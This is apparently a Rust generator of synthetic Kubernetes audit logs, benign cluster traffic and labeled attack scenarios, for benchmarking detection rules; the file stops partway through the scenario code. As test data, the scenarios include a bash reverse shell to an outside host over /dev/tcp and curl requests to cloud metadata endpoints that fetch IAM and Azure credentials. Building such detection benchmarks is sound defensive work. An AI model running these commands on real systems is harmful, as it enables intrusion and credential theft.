//! Realistic audit events for generated EKS and AKS clusters: benign traffic shaped like real
//! clusters, and labeled attack scenarios whose evidence matches the catalogue's detections.
//! Events are written as compact JSON straight into a reused buffer (no `Value` trees) because a
//! benchmark set is tens of millions of them.

use std::fmt::Write;

use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use crate::normalize::time::format_micros;

/// Which managed Kubernetes the cluster runs on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Cloud {
    Eks,
    Aks,
}

/// A generated cluster.
#[derive(Clone, Debug)]
pub struct ClusterSpec {
    pub name: String,
    pub cloud: Cloud,
    /// AWS account id or Azure subscription id.
    pub account: String,
    pub region: String,
    /// AKS only.
    pub resource_group: String,
}

/// Metadata of one generated event.
#[derive(Clone, Debug)]
pub struct EventMeta {
    pub audit_id: String,
    pub stage: &'static str,
    /// stageTimestamp, microseconds since the epoch.
    pub event_time_micros: i64,
}

/// Everything one audit event says; written by [`write_event`].
#[derive(Default)]
struct Ev<'a> {
    level: &'a str,
    stage: &'a str,
    uri: String,
    verb: &'a str,
    user: String,
    uid: String,
    groups: &'a [&'a str],
    extra: Vec<(&'a str, String)>,
    impersonate: Option<(&'a str, &'a [&'a str])>,
    ips: Vec<String>,
    ua: String,
    resource: Option<&'a str>,
    subresource: Option<&'a str>,
    namespace: Option<String>,
    name: Option<String>,
    api_group: &'a str,
    api_version: &'a str,
    code: u16,
    decision: &'a str,
    reason: String,
    request: Option<String>,
    response: Option<String>,
}

fn esc(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

fn list(out: &mut String, items: impl IntoIterator<Item = impl AsRef<str>>) {
    out.push('[');
    for (i, s) in items.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        esc(out, s.as_ref());
    }
    out.push(']');
}

fn user_json(out: &mut String, name: &str, uid: &str, groups: &[&str], extra: &[(&str, String)]) {
    out.push_str("{\"username\":");
    esc(out, name);
    if !uid.is_empty() {
        out.push_str(",\"uid\":");
        esc(out, uid);
    }
    out.push_str(",\"groups\":");
    list(out, groups);
    if !extra.is_empty() {
        out.push_str(",\"extra\":{");
        for (i, (k, v)) in extra.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            esc(out, k);
            out.push_str(":[");
            esc(out, v);
            out.push(']');
        }
        out.push('}');
    }
    out.push('}');
}

/// Writes `e` as one compact audit.k8s.io/v1 Event line.
fn write_event(out: &mut String, e: &Ev<'_>, audit_id: &str, t: i64) {
    out.clear();
    out.push_str("{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":");
    esc(out, e.level);
    out.push_str(",\"auditID\":");
    esc(out, audit_id);
    out.push_str(",\"stage\":");
    esc(out, e.stage);
    out.push_str(",\"requestURI\":");
    esc(out, &e.uri);
    out.push_str(",\"verb\":");
    esc(out, e.verb);
    out.push_str(",\"user\":");
    user_json(out, &e.user, &e.uid, e.groups, &e.extra);
    if let Some((u, g)) = e.impersonate {
        out.push_str(",\"impersonatedUser\":");
        user_json(out, u, "", g, &[]);
    }
    out.push_str(",\"sourceIPs\":");
    list(out, &e.ips);
    out.push_str(",\"userAgent\":");
    esc(out, &e.ua);
    if let Some(r) = e.resource {
        out.push_str(",\"objectRef\":{\"resource\":");
        esc(out, r);
        if let Some(ns) = &e.namespace {
            out.push_str(",\"namespace\":");
            esc(out, ns);
        }
        if let Some(n) = &e.name {
            out.push_str(",\"name\":");
            esc(out, n);
        }
        out.push_str(",\"apiGroup\":");
        esc(out, e.api_group);
        out.push_str(",\"apiVersion\":");
        esc(out, e.api_version);
        if let Some(s) = e.subresource {
            out.push_str(",\"subresource\":");
            esc(out, s);
        }
        out.push('}');
    }
    let _ = write!(out, ",\"responseStatus\":{{\"metadata\":{{}},\"code\":{}", e.code);
    if e.code >= 400 {
        let (status, reason) = match e.code {
            401 => ("Failure", "Unauthorized"),
            403 => ("Failure", "Forbidden"),
            404 => ("Failure", "NotFound"),
            409 => ("Failure", "AlreadyExists"),
            _ => ("Failure", "InternalError"),
        };
        let _ = write!(out, ",\"status\":\"{status}\",\"reason\":\"{reason}\",\"message\":");
        esc(out, &format!("{} \"{}\" is {}", e.resource.unwrap_or("resource"), e.name.as_deref().unwrap_or(""), reason.to_lowercase()));
    }
    out.push('}');
    if let Some(r) = &e.request {
        out.push_str(",\"requestObject\":");
        out.push_str(r);
    }
    if let Some(r) = &e.response {
        out.push_str(",\"responseObject\":");
        out.push_str(r);
    }
    let received = t - 1_000 - (t.rem_euclid(7_000));
    out.push_str(",\"requestReceivedTimestamp\":");
    esc(out, &format_micros(received));
    out.push_str(",\"stageTimestamp\":");
    esc(out, &format_micros(t));
    out.push_str(",\"annotations\":{\"authorization.k8s.io/decision\":");
    esc(out, e.decision);
    out.push_str(",\"authorization.k8s.io/reason\":");
    esc(out, &e.reason);
    if e.resource == Some("pods") && e.verb == "create" && e.subresource.is_none() {
        out.push_str(",\"pod-security.kubernetes.io/enforce-policy\":\"privileged:latest\"");
    }
    out.push_str("}}");
}

fn uuid(rng: &mut SmallRng) -> String {
    let a: u128 = rng.random();
    let h = format!("{a:032x}");
    format!("{}-{}-4{}-{}-{}", &h[0..8], &h[8..12], &h[13..16], &h[16..20], &h[20..32])
}

const KUBELET_UA: &str = "kubelet/v1.30.4 (linux/amd64) kubernetes/a51b3b7";
const KCM_UA: &str = "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a51b3b7/system:serviceaccount:kube-system:";
const KUBECTL_UA: &str = "kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350";
const CORP_IPS: [&str; 3] = ["198.51.100.23", "198.51.100.24", "203.0.113.200"];

/// Realistic request body of a Deployment (1.5–6 KB).
fn deployment_body(name: &str, ns: &str, image: &str, replicas: u32, env: usize) -> String {
    let mut envs = String::new();
    for i in 0..env {
        let _ = write!(envs, "{}{{\"name\":\"APP_SETTING_{i}\",\"value\":\"value-{i}-{name}\"}}", if i > 0 { "," } else { "" });
    }
    format!(
        concat!(
            "{{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",\"metadata\":{{\"name\":\"{n}\",\"namespace\":\"{ns}\",",
            "\"labels\":{{\"app.kubernetes.io/name\":\"{n}\",\"app.kubernetes.io/part-of\":\"shop\",\"app.kubernetes.io/managed-by\":\"Helm\"}},",
            "\"annotations\":{{\"meta.helm.sh/release-name\":\"{n}\",\"meta.helm.sh/release-namespace\":\"{ns}\",\"deployment.kubernetes.io/revision\":\"12\"}}}},",
            "\"spec\":{{\"replicas\":{r},\"selector\":{{\"matchLabels\":{{\"app.kubernetes.io/name\":\"{n}\"}}}},",
            "\"strategy\":{{\"type\":\"RollingUpdate\",\"rollingUpdate\":{{\"maxUnavailable\":\"25%\",\"maxSurge\":\"25%\"}}}},",
            "\"template\":{{\"metadata\":{{\"labels\":{{\"app.kubernetes.io/name\":\"{n}\"}},\"annotations\":{{\"kubectl.kubernetes.io/restartedAt\":\"2026-10-30T09:12:44Z\"}}}},",
            "\"spec\":{{\"serviceAccountName\":\"{n}\",\"securityContext\":{{\"runAsNonRoot\":true,\"runAsUser\":10001,\"fsGroup\":10001}},",
            "\"containers\":[{{\"name\":\"{n}\",\"image\":\"{img}\",\"imagePullPolicy\":\"IfNotPresent\",",
            "\"ports\":[{{\"name\":\"http\",\"containerPort\":8080,\"protocol\":\"TCP\"}}],\"env\":[{env}],",
            "\"resources\":{{\"requests\":{{\"cpu\":\"250m\",\"memory\":\"256Mi\"}},\"limits\":{{\"cpu\":\"1\",\"memory\":\"512Mi\"}}}},",
            "\"livenessProbe\":{{\"httpGet\":{{\"path\":\"/healthz\",\"port\":\"http\"}},\"periodSeconds\":10}},",
            "\"readinessProbe\":{{\"httpGet\":{{\"path\":\"/ready\",\"port\":\"http\"}},\"periodSeconds\":5}},",
            "\"securityContext\":{{\"allowPrivilegeEscalation\":false,\"readOnlyRootFilesystem\":true,\"capabilities\":{{\"drop\":[\"ALL\"]}}}}}}]}}}}}}}}"
        ),
        n = name,
        ns = ns,
        r = replicas,
        img = image,
        env = envs
    )
}

/// A DaemonSet pod of a privileged-by-design system agent (aws-node, kube-proxy, CSI nodes).
fn system_daemon_pod(cloud: Cloud, region: &str, agent: &str, node: &str, suffix: &str) -> String {
    let image = match cloud {
        Cloud::Eks => format!("602401143452.dkr.ecr.{region}.amazonaws.com/eks/{agent}:v1.30.0-eksbuild.3"),
        Cloud::Aks => format!("mcr.microsoft.com/oss/kubernetes/{agent}:v1.30.4"),
    };
    format!(
        concat!(
            "{{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{{\"generateName\":\"{a}-\",\"namespace\":\"kube-system\",",
            "\"labels\":{{\"k8s-app\":\"{a}\",\"controller-revision-hash\":\"{s}\"}},\"ownerReferences\":[{{\"apiVersion\":\"apps/v1\",\"kind\":\"DaemonSet\",\"name\":\"{a}\",\"controller\":true}}]}},",
            "\"spec\":{{\"hostNetwork\":true,\"priorityClassName\":\"system-node-critical\",\"serviceAccountName\":\"{a}\",\"nodeName\":\"{node}\",",
            "\"volumes\":[{{\"name\":\"varlog\",\"hostPath\":{{\"path\":\"/var/log\",\"type\":\"\"}}}},{{\"name\":\"xtables-lock\",\"hostPath\":{{\"path\":\"/run/xtables.lock\",\"type\":\"FileOrCreate\"}}}},{{\"name\":\"lib-modules\",\"hostPath\":{{\"path\":\"/lib/modules\",\"type\":\"\"}}}}],",
            "\"containers\":[{{\"name\":\"{a}\",\"image\":\"{img}\",\"securityContext\":{{\"privileged\":true}},",
            "\"resources\":{{\"requests\":{{\"cpu\":\"25m\"}}}},\"volumeMounts\":[{{\"name\":\"varlog\",\"mountPath\":\"/var/log\"}},{{\"name\":\"lib-modules\",\"mountPath\":\"/lib/modules\",\"readOnly\":true}}]}}],",
            "\"tolerations\":[{{\"operator\":\"Exists\"}}]}}}}"
        ),
        a = agent,
        s = suffix,
        node = node,
        img = image
    )
}

/// Benign background traffic for one cluster.
pub struct BenignTraffic {
    rng: SmallRng,
    cloud: Cloud,
    account: String,
    region: String,
    nodes: Vec<(String, String)>,
    app_namespaces: Vec<&'static str>,
    humans: Vec<String>,
}

impl BenignTraffic {
    pub fn new(cluster: &ClusterSpec, seed: u64) -> Self {
        let mut rng = SmallRng::seed_from_u64(seed);
        let nodes = (0..12)
            .map(|i| {
                let ip = format!("10.{}.{}.{}", 20 + i % 3, rng.random_range(0..64), rng.random_range(2..250));
                let name = match cluster.cloud {
                    Cloud::Eks => format!("ip-{}.{}.compute.internal", ip.replace('.', "-"), cluster.region),
                    Cloud::Aks => format!("aks-nodepool1-{:08}-vmss{:06x}", 31_415_926 + i, i),
                };
                (name, ip)
            })
            .collect();
        let humans = match cluster.cloud {
            Cloud::Eks => vec!["kubernetes-admin".into(), "sre-oncall".into(), "dev-alice".into(), "dev-bob".into()],
            Cloud::Aks => vec!["alice@contoso.com".into(), "bob@contoso.com".into(), "sre@contoso.com".into()],
        };
        BenignTraffic {
            rng,
            cloud: cluster.cloud,
            account: cluster.account.clone(),
            region: cluster.region.clone(),
            nodes,
            app_namespaces: vec!["shop", "payments", "search", "default", "monitoring"],
            humans,
        }
    }

    fn node(&mut self) -> (String, String) {
        let i = self.rng.random_range(0..self.nodes.len());
        self.nodes[i].clone()
    }

    /// Writes one benign event at `t_micros` into `out` and returns its metadata.
    pub fn next_event(&mut self, t_micros: i64, out: &mut String) -> EventMeta {
        let audit_id = uuid(&mut self.rng);
        let p: u32 = self.rng.random_range(0..1000);
        let ev = self.pick(p);
        write_event(out, &ev, &audit_id, t_micros);
        let stage = if ev.stage == "ResponseStarted" { "ResponseStarted" } else { "ResponseComplete" };
        EventMeta { audit_id, stage, event_time_micros: t_micros }
    }

    fn pick(&mut self, p: u32) -> Ev<'static> {
        const NODE_GROUPS: &[&str] = &["system:nodes", "system:authenticated"];
        const SA_GROUPS: &[&str] = &["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"];
        const AUTH: &[&str] = &["system:authenticated"];
        let (node, node_ip) = self.node();
        let node_user = format!("system:node:{node}");
        let base = Ev { level: "Metadata", stage: "ResponseComplete", code: 200, decision: "allow", api_version: "v1", ..Ev::default() };
        match p {
            // kubelet lease renewals
            0..=299 => Ev {
                uri: format!("/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s"),
                verb: "update",
                user: node_user.clone(),
                groups: NODE_GROUPS,
                ips: vec![node_ip],
                ua: KUBELET_UA.into(),
                resource: Some("leases"),
                namespace: Some("kube-node-lease".into()),
                name: Some(node.clone()),
                api_group: "coordination.k8s.io",
                reason: String::new(),
                ..base
            },
            // node status
            300..=379 => Ev {
                level: "Request",
                uri: format!("/api/v1/nodes/{node}/status?timeout=10s"),
                verb: "patch",
                user: node_user.clone(),
                groups: NODE_GROUPS,
                ips: vec![node_ip],
                ua: KUBELET_UA.into(),
                resource: Some("nodes"),
                subresource: Some("status"),
                name: Some(node.clone()),
                request: Some("{\"status\":{\"conditions\":[{\"type\":\"Ready\",\"status\":\"True\",\"reason\":\"KubeletReady\"}]}}".into()),
                ..base
            },
            // kubelet reads what its pods mount
            380..=459 => {
                let (res, name) = match p % 3 {
                    0 => ("configmaps", "kube-root-ca.crt"),
                    1 => ("secrets", "payments-db-credentials"),
                    _ => ("pods", ""),
                };
                let ns = self.app_namespaces[(p as usize) % self.app_namespaces.len()];
                let (uri, verb, name) = if name.is_empty() {
                    (format!("/api/v1/pods?fieldSelector=spec.nodeName%3D{node}&resourceVersion=4242"), "list", None)
                } else {
                    (format!("/api/v1/namespaces/{ns}/{res}/{name}"), "get", Some(name.to_owned()))
                };
                Ev {
                    uri,
                    verb,
                    user: node_user.clone(),
                    groups: NODE_GROUPS,
                    ips: vec![node_ip],
                    ua: KUBELET_UA.into(),
                    resource: Some(res),
                    namespace: name.as_ref().map(|_| ns.to_owned()),
                    name,
                    reason: String::new(),
                    ..base
                }
            }
            // controllers and the scheduler
            460..=659 => {
                let (user, ua_sa, res, group, verb, ns, name): (&'static str, &str, &'static str, &'static str, &'static str, &str, String) = match p % 5 {
                    0 => ("system:kube-controller-manager", "", "leases", "coordination.k8s.io", "update", "kube-system", "kube-controller-manager".into()),
                    1 => ("system:kube-scheduler", "", "leases", "coordination.k8s.io", "update", "kube-system", "kube-scheduler".into()),
                    2 => ("system:serviceaccount:kube-system:replicaset-controller", "replicaset-controller", "replicasets", "apps", "update", "shop", "frontend-7d4b9c6f5d".into()),
                    3 => ("system:serviceaccount:kube-system:endpointslice-controller", "endpointslice-controller", "endpointslices", "discovery.k8s.io", "update", "shop", "frontend-x7k2p".into()),
                    _ => ("system:serviceaccount:kube-system:deployment-controller", "deployment-controller", "deployments", "apps", "update", "payments", "payments-api".into()),
                };
                let is_sa = user.starts_with("system:serviceaccount:");
                let uri = if group.is_empty() { format!("/api/v1/namespaces/{ns}/{res}/{name}") } else { format!("/apis/{group}/v1/namespaces/{ns}/{res}/{name}") };
                Ev {
                    uri,
                    verb,
                    user: user.into(),
                    groups: if is_sa { SA_GROUPS } else { AUTH },
                    extra: Vec::new(),
                    ips: vec![format!("10.0.{}.{}", p % 3, 10 + p % 5)],
                    ua: format!("{KCM_UA}{ua_sa}"),
                    resource: Some(res),
                    namespace: Some(ns.into()),
                    name: Some(name),
                    api_group: group,
                    reason: format!("RBAC: allowed by ClusterRoleBinding \"{user}\" of ClusterRole \"{user}\" to User \"{user}\""),
                    ..base
                }
            }
            // CoreDNS watches
            660..=709 => {
                let (res, group) = if p.is_multiple_of(2) { ("endpointslices", "discovery.k8s.io") } else { ("services", "") };
                let uri = if group.is_empty() { format!("/api/v1/{res}?allowWatchBookmarks=true&resourceVersion=88&watch=true") } else { format!("/apis/{group}/v1/{res}?allowWatchBookmarks=true&resourceVersion=88&watch=true") };
                Ev {
                    stage: if p.is_multiple_of(4) { "ResponseStarted" } else { "ResponseComplete" },
                    uri,
                    verb: "watch",
                    user: "system:serviceaccount:kube-system:coredns".into(),
                    groups: SA_GROUPS,
                    extra: vec![("authentication.kubernetes.io/pod-name", "coredns-5d78c9869d-x2v8q".into())],
                    ips: vec![format!("10.21.{}.{}", p % 7, p % 200)],
                    ua: "coredns/v1.11.1 (linux/amd64)".into(),
                    resource: Some(res),
                    api_group: group,
                    reason: "RBAC: allowed by ClusterRoleBinding \"system:coredns\"".into(),
                    ..base
                }
            }
            // anonymous / readiness health probes
            710..=759 => {
                let path = ["/readyz", "/livez", "/healthz"][(p % 3) as usize];
                let (user, ua) = match self.cloud {
                    Cloud::Eks => ("system:anonymous", if p.is_multiple_of(2) { "ELB-HealthChecker/2.0" } else { "kube-probe/1.30" }),
                    Cloud::Aks => ("readinessChecker", "kube-probe/1.30"),
                };
                Ev {
                    uri: path.into(),
                    verb: "get",
                    user: user.into(),
                    groups: if user == "system:anonymous" { &["system:unauthenticated"] } else { AUTH },
                    ips: vec![format!("10.0.{}.{}", p % 4, 30 + p % 20)],
                    ua: ua.into(),
                    api_version: "",
                    reason: "RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\"".into(),
                    ..base
                }
            }
            // CI deploys
            760..=819 => {
                let ns = self.app_namespaces[(p as usize) % 3];
                let app = ["frontend", "checkout", "catalog", "payments-api"][(p % 4) as usize];
                let body = deployment_body(app, ns, &format!("registry.example.com/shop/{app}:1.{}.{}", p % 40, p % 9), 3, 8 + (p % 40) as usize);
                let (user, extra, ua): (&'static str, Vec<(&'static str, String)>, &str) = match self.cloud {
                    Cloud::Eks => (
                        "github-actions",
                        vec![("arn", format!("arn:aws:sts::{}:assumed-role/GitHubActionsDeploy/run-{p}", self.account)), ("canonicalArn", format!("arn:aws:iam::{}:role/GitHubActionsDeploy", self.account)), ("sessionName", format!("run-{p}"))],
                        "helm/v3.15.2",
                    ),
                    // An Entra ID service principal (AKS names it by object id), run from the CI's own network.
                    Cloud::Aks => ("6c7e2a4f-19b3-4d0e-9a57-3f2d8c1b7e90", vec![("oid", "6c7e2a4f-19b3-4d0e-9a57-3f2d8c1b7e90".into())], "helm/v3.15.2"),
                };
                Ev {
                    level: "RequestResponse",
                    uri: format!("/apis/apps/v1/namespaces/{ns}/deployments/{app}?fieldManager=helm"),
                    verb: "patch",
                    user: user.into(),
                    uid: format!("aws-iam-authenticator:{}:AROAEXAMPLECI{p}", self.account),
                    groups: &["ci-deployers", "system:authenticated"],
                    extra,
                    ips: vec![CORP_IPS[(p % 3) as usize].into()],
                    ua: ua.into(),
                    resource: Some("deployments"),
                    namespace: Some(ns.into()),
                    name: Some(app.into()),
                    api_group: "apps",
                    reason: "RBAC: allowed by RoleBinding \"deployer\" of ClusterRole \"edit\"".into(),
                    response: Some(body.clone()),
                    request: Some(body),
                    ..base
                }
            }
            // humans with kubectl
            820..=879 => {
                let who = self.humans[(p as usize) % self.humans.len()].clone();
                let ns = self.app_namespaces[(p as usize) % self.app_namespaces.len()];
                let (uri, verb, res, sub, name) = match p % 6 {
                    0 => (format!("/api/v1/namespaces/{ns}/pods?limit=500"), "list", "pods", None, None),
                    1 => (format!("/api/v1/namespaces/{ns}/pods/frontend-7d4b9c6f5d-x2v8q/log?container=frontend&tailLines=100"), "get", "pods", Some("log"), Some("frontend-7d4b9c6f5d-x2v8q".to_owned())),
                    2 => (format!("/apis/apps/v1/namespaces/{ns}/deployments?limit=500"), "list", "deployments", None, None),
                    3 => (format!("/api/v1/namespaces/{ns}/events?limit=500"), "list", "events", None, None),
                    4 => (format!("/api/v1/namespaces/{ns}/services/frontend"), "get", "services", None, Some("frontend".to_owned())),
                    _ => (format!("/api/v1/namespaces/{ns}/configmaps/frontend-config"), "get", "configmaps", None, Some("frontend-config".to_owned())),
                };
                let extra = match self.cloud {
                    Cloud::Eks => vec![
                        ("arn", format!("arn:aws:sts::{}:assumed-role/Developers/{who}", self.account)),
                        ("canonicalArn", format!("arn:aws:iam::{}:role/Developers", self.account)),
                        ("sessionName", who.to_string()),
                        ("accessKeyId", "ASIAEXAMPLEKEY".into()),
                    ],
                    Cloud::Aks => Vec::new(),
                };
                Ev {
                    uri,
                    verb,
                    user: who.clone(),
                    uid: format!("aws-iam-authenticator:{}:AROAEXAMPLEDEV", self.account),
                    groups: &["developers", "system:authenticated"],
                    extra,
                    ips: vec![CORP_IPS[(p % 3) as usize].into()],
                    ua: KUBECTL_UA.into(),
                    resource: Some(res),
                    subresource: sub,
                    namespace: Some(ns.into()),
                    name,
                    reason: "RBAC: allowed by RoleBinding \"developers\" of ClusterRole \"view\"".into(),
                    api_group: if res == "deployments" { "apps" } else { "" },
                    ..base
                }
            }
            // managed identities of the cloud provider
            880..=939 => {
                let (user, ua): (&'static str, &str) = match (self.cloud, p % 3) {
                    (Cloud::Eks, 0) => ("eks:node-manager", "Go-http-client/1.1"),
                    (Cloud::Eks, 1) => ("eks:addon-manager", "eks-addon-manager/v1.30"),
                    (Cloud::Eks, _) => ("eks:certificate-controller", "Go-http-client/1.1"),
                    (Cloud::Aks, 0) => ("aksService", "kubectl/v1.30.4 (linux/amd64)"),
                    (Cloud::Aks, 1) => ("masterclient", "Go-http-client/2.0"),
                    (Cloud::Aks, _) => ("hcpService", "Go-http-client/2.0"),
                };
                let (uri, verb, res, name) = if p.is_multiple_of(2) {
                    ("/api/v1/namespaces/kube-system/configmaps/extension-apiserver-authentication".to_owned(), "get", "configmaps", Some("extension-apiserver-authentication".to_owned()))
                } else {
                    ("/api/v1/nodes?limit=500".to_owned(), "list", "nodes", None)
                };
                Ev {
                    uri,
                    verb,
                    user: user.into(),
                    groups: AUTH,
                    ips: vec![format!("10.0.{}.{}", 200 + p % 3, p % 250)],
                    ua: ua.into(),
                    resource: Some(res),
                    namespace: name.as_ref().map(|_| "kube-system".to_owned()),
                    name,
                    reason: "RBAC: allowed by ClusterRoleBinding \"eks:node-manager\"".into(),
                    ..base
                }
            }
            // privileged-by-design DaemonSet pods created by the daemonset controller
            940..=959 => {
                let agents: &[&str] = match self.cloud {
                    Cloud::Eks => &["aws-node", "kube-proxy", "ebs-csi-node"],
                    Cloud::Aks => &["kube-proxy", "csi-azuredisk-node", "cloud-node-manager"],
                };
                let agent = agents[(p as usize) % agents.len()];
                let suffix = format!("{:05x}", self.rng.random_range(0..0xfffff));
                let body = system_daemon_pod(self.cloud, &self.region, agent, &node, &suffix);
                Ev {
                    level: "RequestResponse",
                    uri: "/api/v1/namespaces/kube-system/pods".into(),
                    verb: "create",
                    user: "system:serviceaccount:kube-system:daemon-set-controller".into(),
                    groups: SA_GROUPS,
                    ips: vec!["10.0.0.10".into()],
                    ua: format!("{KCM_UA}daemon-set-controller"),
                    resource: Some("pods"),
                    namespace: Some("kube-system".into()),
                    name: Some(format!("{agent}-{suffix}")),
                    code: 201,
                    reason: "RBAC: allowed by ClusterRoleBinding \"system:controller:daemon-set-controller\"".into(),
                    response: Some(body.clone()),
                    request: Some(body),
                    ..base
                }
            }
            // kubelet minting projected service-account tokens (TokenRequest, no body)
            960..=979 => {
                let ns = self.app_namespaces[(p as usize) % self.app_namespaces.len()];
                Ev {
                    uri: format!("/api/v1/namespaces/{ns}/serviceaccounts/default/token"),
                    verb: "create",
                    user: node_user.clone(),
                    groups: NODE_GROUPS,
                    ips: vec![node_ip],
                    ua: KUBELET_UA.into(),
                    resource: Some("serviceaccounts"),
                    subresource: Some("token"),
                    namespace: Some(ns.into()),
                    name: Some("default".into()),
                    code: 201,
                    reason: String::new(),
                    ..base
                }
            }
            // the odd 404 and a rare harmless kubectl exec by an engineer (a DUET, never an alert)
            _ => {
                if p == 999 && self.rng.random_bool(0.1) {
                    return Ev {
                        level: "Request",
                        stage: "ResponseStarted",
                        uri: "/api/v1/namespaces/shop/pods/frontend-7d4b9c6f5d-x2v8q/exec?command=ls&command=-la&command=%2Fapp&container=frontend&stdin=true&stdout=true&tty=true".into(),
                        verb: "get",
                        user: self.humans[0].clone(),
                        groups: &["developers", "system:authenticated"],
                        ips: vec![CORP_IPS[0].into()],
                        ua: KUBECTL_UA.into(),
                        resource: Some("pods"),
                        subresource: Some("exec"),
                        namespace: Some("shop".into()),
                        name: Some("frontend-7d4b9c6f5d-x2v8q".into()),
                        code: 101,
                        reason: "RBAC: allowed by RoleBinding \"developers\" of ClusterRole \"edit\"".into(),
                        ..base
                    };
                }
                Ev {
                    uri: "/api/v1/namespaces/shop/configmaps/feature-flags-canary".into(),
                    verb: "get",
                    user: "system:serviceaccount:shop:frontend".into(),
                    groups: &["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"],
                    extra: vec![("authentication.kubernetes.io/pod-name", "frontend-7d4b9c6f5d-x2v8q".into())],
                    ips: vec![format!("10.21.3.{}", p % 200)],
                    ua: "frontend/2.4.1 (linux/amd64) kubernetes/$Format".into(),
                    resource: Some("configmaps"),
                    namespace: Some("shop".into()),
                    name: Some("feature-flags-canary".into()),
                    code: 404,
                    reason: "RBAC: allowed by RoleBinding \"frontend\"".into(),
                    ..base
                }
            }
        }
    }
}

/// One labeled attack-scenario instance.
pub struct ScenarioEvents {
    pub scenario: &'static str,
    /// Catalogue ids (detections.md) that must fire on it.
    pub detections: &'static [&'static str],
    pub description: &'static str,
    pub events: Vec<(EventMeta, String)>,
}

/// Every scenario kind, in a stable order.
pub const SCENARIOS: &[&str] = &[
    "D08-sa-token-from-public-ip",
    "D41-cluster-admin-binding",
    "D13-exec-reverse-shell",
    "D14-exec-imds",
    "D15-exec-sa-token-read",
    "D16-kubectl-cp-exfil",
    "D55-cluster-wide-secret-list",
    "D56-secret-get-burst",
    "D01-anonymous-authorized",
    "D02-anonymous-pod-create",
    "D43-wildcard-clusterrole",
    "D46-escalate-bind-impersonate-role",
    "D28-client-cert-csr",
    "D25-wildcard-admission-webhook",
    "D11-impersonate-privileged",
    "D33-privileged-pod",
    "D37-sensitive-hostpath",
];

const ATTACKER_IP: &str = "185.220.101.47";
const HUMAN_GROUPS: &[&str] = &["developers", "system:authenticated"];

fn exec_uri(ns: &str, pod: &str, container: &str, args: &[&str]) -> String {
    let mut q = String::new();
    for a in args {
        let enc: String = percent_encoding::utf8_percent_encode(a, percent_encoding::NON_ALPHANUMERIC).to_string();
        let _ = write!(q, "command={}&", enc.replace("%20", "+"));
    }
    format!("/api/v1/namespaces/{ns}/pods/{pod}/exec?{q}container={container}&stdin=true&stdout=true&tty=true")
}

/// Builds scenario `name` on `cluster`, its events starting at `t_micros`.
pub fn scenario(name: &str, cluster: &ClusterSpec, t_micros: i64, seed: u64) -> Option<ScenarioEvents> {
    let mut rng = SmallRng::seed_from_u64(seed ^ 0xa77ac);
    let human: &'static str = match cluster.cloud {
        Cloud::Eks => "contractor-eve",
        Cloud::Aks => "eve@contoso-partner.com",
    };
    let human_base = || Ev {
        level: "RequestResponse",
        stage: "ResponseComplete",
        user: human.into(),
        groups: HUMAN_GROUPS,
        ips: vec![CORP_IPS[2].into()],
        ua: KUBECTL_UA.into(),
        code: 200,
        decision: "allow",
        api_version: "v1",
        reason: "RBAC: allowed by ClusterRoleBinding \"ops-admins\" of ClusterRole \"cluster-admin\"".into(),
        ..Ev::default()
    };
    let exec = |args: &[&str]| Ev {
        level: "Request",
        stage: "ResponseStarted",
        uri: exec_uri("payments", "payments-api-6c9f7d8b5-qk2lm", "api", args),
        verb: "get",
        resource: Some("pods"),
        subresource: Some("exec"),
        namespace: Some("payments".into()),
        name: Some("payments-api-6c9f7d8b5-qk2lm".into()),
        code: 101,
        ..human_base()
    };
    let (detections, description, evs): (&'static [&'static str], &'static str, Vec<Ev<'static>>) = match name {
        "D08-sa-token-from-public-ip" => (&["D08"], "A build service account's token used from a public, non-cloud address to list secrets.", vec![Ev {
            level: "Metadata",
            uri: "/api/v1/namespaces/default/secrets?limit=500".into(),
            verb: "list",
            user: "system:serviceaccount:default:build-bot".into(),
            groups: &["system:serviceaccounts", "system:serviceaccounts:default", "system:authenticated"],
            ips: vec![ATTACKER_IP.into()],
            ua: "curl/8.5.0".into(),
            resource: Some("secrets"),
            namespace: Some("default".into()),
            reason: "RBAC: allowed by RoleBinding \"build-bot\" of ClusterRole \"edit\"".into(),
            ..human_base()
        }]),
        "D41-cluster-admin-binding" => {
            let body = "{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{\"name\":\"backup-operator-admin\"},\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"},\"subjects\":[{\"kind\":\"ServiceAccount\",\"name\":\"backup-operator\",\"namespace\":\"default\"}]}";
            (&["D41"], "A human binds a new service account to cluster-admin.", vec![Ev {
                uri: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create".into(),
                verb: "create",
                resource: Some("clusterrolebindings"),
                name: Some("backup-operator-admin".into()),
                api_group: "rbac.authorization.k8s.io",
                code: 201,
                request: Some(body.into()),
                response: Some(body.into()),
                ..human_base()
            }])
        }
        "D13-exec-reverse-shell" => (&["D13", "D12"], "Exec into a payments pod opening a bash reverse shell to an outside host.", vec![exec(&["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])]),
        "D14-exec-imds" => {
            let cmd = match cluster.cloud {
                Cloud::Eks => "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                Cloud::Aks => "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
            };
